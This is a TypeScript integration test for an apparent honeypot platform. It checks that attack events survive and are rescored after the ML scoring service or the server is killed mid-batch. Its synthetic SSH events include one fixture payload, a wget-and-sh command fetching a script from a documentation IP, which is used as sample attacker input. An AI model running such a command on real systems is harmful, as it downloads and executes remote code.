/** The real ML service as a process of its own, killed in the middle; and the server, while events wait for judgement. */
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it, type TestContext } from 'node:test';
import type { StoredEvent } from '../../src/core/event.ts';
import type { Store } from '../../src/core/store.ts';
import { openSqliteStore } from '../../src/store/sqlite/open.ts';
import { createPlace, type Running } from '../support/command-line.ts';
import { hangs, openMlService } from '../support/ml-service.ts';
import { startMongo } from '../support/mongo-server.ts';
import { eventually } from '../support/pipeline.ts';
import { startServerProcess } from '../support/process.ts';
import { openTestServer, testSecret } from '../support/server.ts';

const mongo = await startMongo();
const ever = '9999-01-01T00:00:00.000Z';

interface BatchAnswer {
  accepted: number;
  duplicate: number;
  results: { status: string; ml_prediction: { attack_type: string; risk_score: number } }[];
}

/** Guesses, entries and commands of twenty sources: what the service says of them differs. */
const toEvent = (n: number) => ({
  event_id: `e${n}`,
  service: 'SSH',
  source_ip: `203.0.113.${n % 20}`,
  activity: n % 4 === 3 ? 'command' : 'login_attempt',
  payload: n % 4 === 3 ? 'cd /tmp; wget http://198.51.100.7/x.sh; sh x.sh' : '',
  timestamp: new Date(Date.parse('2026-11-25T08:00:00Z') + n * 200).toISOString(),
});

/** `decoyverse ml`; `port` 0 for any. */
async function startMl(t: TestContext, port: string): Promise<Running & { url: string; port: string }> {
  const running = createPlace(t).start(['ml', '--port', port]);
  const [, url = ''] = await running.saw(/listening on (http:\/\/\S+)/);
  return { ...running, url, port: new URL(url).port };
}

async function allEvents(store: Store, user: string): Promise<StoredEvent[]> {
  const found: StoredEvent[] = [];
  let cursor: string | null = null;
  do {
    const page: Awaited<ReturnType<ReturnType<Store['of']>['events']>> = await store
      .of(user)
      .events({}, { limit: 1000, cursor });
    found.push(...page.items);
    cursor = page.next_cursor;
  } while (cursor !== null);
  return found;
}

/** Every event is there once, judged by the service, and all figures say the same. */
async function isWhole(store: Store, user: string, sent: number): Promise<void> {
  const events = await allEvents(store, user);
  assert.deepEqual(
    events.map(({ event_id }) => event_id).sort(),
    Array.from({ length: sent }, (_, n) => `e${n}`).sort(),
  );
  for (const { verdict, state, event_id } of events) {
    assert.equal(state, 'done', `${event_id} is ${state}`);
    assert.equal(verdict?.scored_by, 'ml_api', event_id ?? '');
  }
  const sum = events.reduce((total, { verdict }) => total + (verdict?.risk_score ?? 0), 0);
  const mine = store.of(user);
  const stats = await mine.stats();
  assert.equal(stats.total_attacks, sent);
  assert.equal(stats.risk_sum, sum);
  const rollups = await mine.rollups('2026-11-25T00:00:00.000Z', '2026-11-26T00:00:00.000Z');
  for (const [name, value] of [
    ['events', sent],
    ['risk_sum', sum],
  ] as const)
    assert.equal(
      rollups.reduce((total, one) => total + one[name], 0),
      value,
      `rollups: ${name}`,
    );
  const profiles = (await mine.profiles('last_seen', { limit: 100 })).items;
  assert.equal(
    profiles.reduce((total, { total_attacks }) => total + total_attacks, 0),
    sent,
  );
  const alerts = (await mine.alerts({}, { limit: 1000 })).items.map(({ alert_id }) => alert_id);
  assert.ok(alerts.length > 0);
  assert.equal(new Set(alerts).size, alerts.length);
  assert.deepEqual(
    new Set(events.flatMap(({ alert_id }) => alert_id ?? [])),
    new Set(alerts),
    'each alert has its event',
  );
  assert.equal(stats.active_alerts, alerts.length);
}

describe('the ML service is killed in the middle', () => {
  after(() => mongo?.close());

  for (const kind of ['sqlite', 'mongo'] as const)
    it(`over ${kind}: every event is acknowledged, and judged by the service once it is back`, {
      skip: kind === 'mongo' && mongo === null,
    }, async (t) => {
      const ml = await startMl(t, '0');
      const server = await openTestServer({
        env: {
          ML_API_URL: ml.url,
          ...(kind === 'mongo' ? { MONGODB_URI: mongo!.uri, DATABASE_NAME: mongo!.newDatabase() } : {}),
        },
        overrides: {
          // Patient, so that a busy machine is not taken for a service that hangs; who is dead refuses at once.
          pipelineLimits: { budgetMs: 20_000, rescoreIdleMs: 50 },
          remoteLimits: { limitMs: 20_000, breaker: { failures: 5, probeMs: 100 } },
        },
      });
      t.after(() => server.close());
      const user = await server.createUser();
      const { headers } = await server.createNode(user);
      let sent = 0;
      let fallbacks = 0;
      let judged = 0;
      const send = async (): Promise<void> => {
        const body = Array.from({ length: 25 }, () => toEvent(sent++));
        const answer = await server.call<BatchAnswer>('POST', '/api/events', { headers, body });
        assert.equal(answer.status, 200, JSON.stringify(answer.body));
        assert.equal(answer.body.accepted, body.length);
        for (const { ml_prediction } of answer.body.results)
          if (ml_prediction.attack_type === 'unknown') {
            assert.equal(ml_prediction.risk_score, 0);
            fallbacks++;
          } else judged++;
      };
      await send();
      assert.equal(judged, 25);
      // Killed while its answers are awaited, and gone for a while.
      const under = Promise.all([send(), send(), send(), send()]);
      await eventually(async () => server.pipeline.counters().in_flight);
      ml.child.kill('SIGKILL');
      await ml.ended;
      await under;
      const before = fallbacks;
      for (let n = 0; n < 4; n++) await send();
      assert.equal(fallbacks, before + 100, 'nobody judges, and nobody is kept waiting');

      const back = await startMl(t, ml.port);
      assert.equal(back.url, ml.url);
      await eventually(
        async () =>
          (await server.store.unfinished('fallback', ever, 1)).length === 0 &&
          (await server.store.unfinished('pending', ever, 1)).length === 0,
      );
      await isWhole(server.store, user.id, sent);
      // Counted when the store has acknowledged it, which readers may be ahead of.
      await eventually(async () => (server.pipeline.counters().rescored ?? 0) >= fallbacks);
      assert.equal(server.pipeline.counters().rescored, fallbacks, 'each judged again, once');
      const again = await server.call<BatchAnswer>('POST', '/api/events', {
        headers,
        body: Array.from({ length: sent }, (_, n) => toEvent(n)),
      });
      assert.equal(again.body.duplicate, sent);
      await isWhole(server.store, user.id, sent);
    });

  it('and so is the server, while events wait: all are judged after both are started again', async (t) => {
    const folder = mkdtempSync(join(tmpdir(), 'decoyverse-killed-'));
    t.after(() => rmSync(folder, { recursive: true, force: true }));
    // Nobody answers at this address, until the real service does.
    const silent = await openMlService(hangs);
    const env = { DATA_DIR: folder, JWT_SECRET_KEY: testSecret, ML_API_URL: silent.url };
    const victim = await startServerProcess(env);
    t.after(() => victim.kill());
    const post = async <T>(address: string, path: string, body: unknown, headers = {}): Promise<T> => {
      const response = await fetch(`${address}${path}`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', ...headers },
        body: JSON.stringify(body),
      });
      assert.equal(response.status, 200, path);
      return (await response.json()) as T;
    };
    const account = { email: 'owner@example.org', password: 'correct horse battery' };
    const owner = await post<{ access_token: string; user: { id: string } }>(
      victim.address,
      '/auth/register',
      account,
    );
    const token = { authorization: `Bearer ${owner.access_token}` };
    const { api_key } = await post<{ api_key: string }>(victim.address, '/nodes', { name: 'n' }, token);
    const node = { 'x-node-key': api_key };
    const events = Array.from({ length: 60 }, (_, n) => toEvent(n));
    const unanswered = assert.rejects(post(victim.address, '/api/events', events, node));
    // What is asked about is stored already.
    await eventually(async () => silent.asked.length >= events.length);
    await victim.kill();
    await unanswered;
    await silent.close();
    const store = await openSqliteStore({ file: join(folder, 'decoyverse.db') });
    const pending = await store.unfinished('pending', ever, 1000);
    await store.close();
    assert.equal(pending.length, events.length, 'durable before anybody was asked');

    await startMl(t, new URL(silent.url).port);
    const next = await startServerProcess(env);
    t.after(() => next.kill());
    const list = async (): Promise<{ items: { verdict: { scored_by: string } | null }[] }> =>
      (await (await fetch(`${next.address}/api/events?limit=100`, { headers: token })).json()) as never;
    await eventually(async () => {
      const judged = (await list()).items.filter(({ verdict }) => verdict?.scored_by === 'ml_api');
      return judged.length === events.length;
    });
    const again = await post<BatchAnswer>(next.address, '/api/events', events, node);
    assert.equal(again.duplicate, events.length, 'who was not answered sends again');
    assert.equal(await next.stop(), 0);
    const after = await openSqliteStore({ file: join(folder, 'decoyverse.db') });
    t.after(() => after.close());
    await isWhole(after, owner.user.id, events.length);
  });
});
